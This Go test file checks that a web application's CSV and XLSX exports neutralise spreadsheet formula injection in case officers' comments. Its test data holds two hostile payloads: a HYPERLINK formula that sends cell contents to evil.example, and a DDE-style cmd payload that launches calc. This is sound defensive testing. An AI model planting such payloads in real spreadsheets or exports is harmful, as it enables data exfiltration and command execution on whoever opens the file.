package web

import (
	"bytes"
	"encoding/csv"
	"net/http"
	"net/url"
	"regexp"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
)

// TestExportsCarryNoFormulas: a case officer's comment that looks like a
// formula comes out of the CSV export with a leading apostrophe, and out
// of the XLSX export as a plain string cell, never a formula.
func TestExportsCarryNoFormulas(t *testing.T) {
	e := newTestEnv(t)
	c := e.clientAs(t, "anna")

	var skane int64
	mustGet(t, e.st.DB(), &skane, `SELECT id FROM submissions WHERE organisation = 'skane'`)
	_, page := c.get("/inlamning/" + itoa(skane))
	form := regexp.MustCompile(`name="code" value="([^"]*)"><input type="hidden" name="question" value="([^"]*)"`).FindAllStringSubmatch(page, -1)
	if len(form) < 2 {
		t.Fatalf("Skåne's report offers %d findings to accept, want at least 2", len(form))
	}
	const formula = `=HYPERLINK("https://evil.example/?d="&A1;"Klicka")`
	comments := []string{formula, "@SUM(1+1)*cmd|' /C calc'!A0"}
	token := reCSRF.FindStringSubmatch(page)[1]
	for i, comment := range comments {
		resp, _ := c.post("/inlamning/"+itoa(skane)+"/godta", url.Values{"csrf": {token}, "code": {form[i][1]}, "question": {form[i][2]}, "comment": {comment}})
		if resp.StatusCode != http.StatusSeeOther {
			t.Fatalf("accept %s: %d", form[i][1], resp.StatusCode)
		}
	}

	_, body := c.get("/export/anmarkningar.csv")
	r := csv.NewReader(strings.NewReader(strings.TrimPrefix(body, "\ufeff")))
	r.Comma = ';'
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]bool{}
	for _, row := range rows[1:] {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("CSV cell %q begins a formula", cell)
			}
		}
		got[row[8]] = true
	}
	for _, comment := range comments {
		if !got["'"+comment] {
			t.Errorf("CSV lacks the comment %q with a leading apostrophe; comments %v", comment, got)
		}
	}

	resp, data := c.get("/export/anmarkningar.xlsx")
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("xlsx: %d", resp.StatusCode)
	}
	x, err := excelize.OpenReader(bytes.NewReader([]byte(data)))
	if err != nil {
		t.Fatal(err)
	}
	sheet := x.GetSheetList()[0]
	xrows, err := x.GetRows(sheet)
	if err != nil {
		t.Fatal(err)
	}
	seen := 0
	for i, row := range xrows {
		if len(row) < 9 || row[8] != formula && row[8] != comments[1] {
			continue
		}
		seen++
		cell, _ := excelize.CoordinatesToCellName(9, i+1)
		typ, err := x.GetCellType(sheet, cell)
		if err != nil {
			t.Fatal(err)
		}
		f, _ := x.GetCellFormula(sheet, cell)
		if f != "" || (typ != excelize.CellTypeInlineString && typ != excelize.CellTypeSharedString) {
			t.Errorf("XLSX cell %s %q: type %v, formula %q; want a string cell without a formula", cell, row[8], typ, f)
		}
	}
	if seen != len(comments) {
		t.Errorf("XLSX holds %d of the %d comments as written", seen, len(comments))
	}
}
